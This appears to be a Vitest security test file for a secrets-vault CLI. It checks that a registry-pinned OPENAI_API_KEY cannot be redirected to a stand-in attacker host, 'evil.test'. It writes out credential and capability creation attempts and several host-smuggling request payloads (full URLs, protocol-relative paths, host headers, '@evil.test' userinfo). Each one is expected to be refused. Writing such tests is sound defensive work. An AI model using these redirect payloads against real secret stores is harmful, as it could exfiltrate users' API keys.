/**
 * Attack (seed 002): host swap — a fake credential/capability pointing OPENAI_API_KEY at evil.test.
 * Tried through the CLI every way: a custom provider credential on the pinned secret, the openai provider
 * with an attacker host, a capability with an attacker host on the openai credential, a re-bound
 * capability, a custom capability on the registry provider. Stopped by: pinning (a registry-claimed
 * secret is bound to its provider forever, checked at create AND at invoke against the compiled registry).
 * The collector (`evil.test`, mapped to the same mock) must receive nothing.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { headerCredentialArgs } from '../support/run-cli.js';
import { startAttackEnv, wireError, type AttackEnv } from './support/attack-env.js';

let a: AttackEnv;
let openaiId = '';
beforeAll(async () => {
  a = await startAttackEnv();
  const list = JSON.parse((await a.cli(['-v', 'secrets', 'list'])).stdout) as { id: string; name: string }[];
  openaiId = list.find((s) => s.name === 'OPENAI_API_KEY')!.id;
});
afterAll(async () => {
  expect(a.hits('evil.test')).toEqual([]);
  await a?.close();
});

const ref = (): string => `vault:secret:${openaiId}`;

describe('attack: host-swap exfiltration of a registry-pinned secret', () => {
  it('a custom-provider credential using the pinned secret is refused', async () => {
    const r = await a.cli([
      '-v',
      ...headerCredentialArgs({ id: 'evil', provider: 'evilcorp', secretRef: ref(), host: 'evil.test' }),
    ]);
    expect(r.code).not.toBe(0);
    expect(wireError(r).error).toBe('policy_violation');
  });

  it('the openai provider with an attacker host is refused', async () => {
    const r = await a.cli([
      '-v',
      'credential',
      'create',
      'evil2',
      '--provider',
      'openai',
      '--secret-ref',
      ref(),
      '--host',
      'evil.test',
    ]);
    expect(r.code).not.toBe(0);
    expect(wireError(r).error).toBe('policy_violation');
  });

  it('a capability with an attacker host on the openai credential is refused', async () => {
    const r = await a.cli([
      '-v',
      'capability',
      'create',
      'evil/cap',
      '--credential',
      'openai',
      '--method',
      'POST',
      '--path',
      '/',
      '--host',
      'evil.test',
    ]);
    expect(r.code).not.toBe(0);
    expect(wireError(r).error).toBe('policy_violation');
  });

  it('a pinned-name secret under a new name/alias is still pinned (alias OPENAI_API_KEY on a new secret)', async () => {
    const r = await a.cli([
      '-v',
      'secrets',
      'create',
      '--name',
      'MY_KEY',
      '--alias',
      'OPENAI_API_KEY',
      '--value',
      'sk-alias-attack-123456',
    ]);
    if (r.code === 0) {
      const id = (JSON.parse(r.stdout) as { secret: { id: string } }).secret.id;
      const c = await a.cli([
        '-v',
        ...headerCredentialArgs({
          id: 'evil3',
          provider: 'evilcorp',
          secretRef: `vault:secret:${id}`,
          header: 'x-k',
          template: '{{secret}}',
          host: 'evil.test',
        }),
      ]);
      // Either the alias pins it, or the alias claim is refused at create; never both missing.
      expect(c.code === 0 ? 'created' : wireError(c).error).not.toBe('created');
    } else {
      expect(['policy_violation', 'conflict', 'usage']).toContain(wireError(r).error);
    }
  });

  it('invoking registry capabilities with the caller naming another credential/host never reaches evil.test', async () => {
    for (const req of [
      '{"method":"GET","path":"/v1/models","url":"https://evil.test/v1/models"}',
      '{"method":"GET","path":"/v1/models","host":"evil.test"}',
      '{"method":"GET","path":"https://evil.test/v1/models"}',
      '{"method":"GET","path":"//evil.test/v1/models"}',
      '{"method":"GET","path":"/v1/models","headers":{"host":"evil.test"}}',
      '{"method":"GET","path":"/v1/models@evil.test"}',
    ]) {
      const r = await a.cli(['-v', 'invoke', 'openai/models', '--request', req]);
      if (r.code === 0) {
        expect(a.raw.at(-1)?.host).toBe('api.openai.com');
      } else {
        expect(['policy_violation', 'invalid_request']).toContain(wireError(r).error);
      }
    }
  });
});
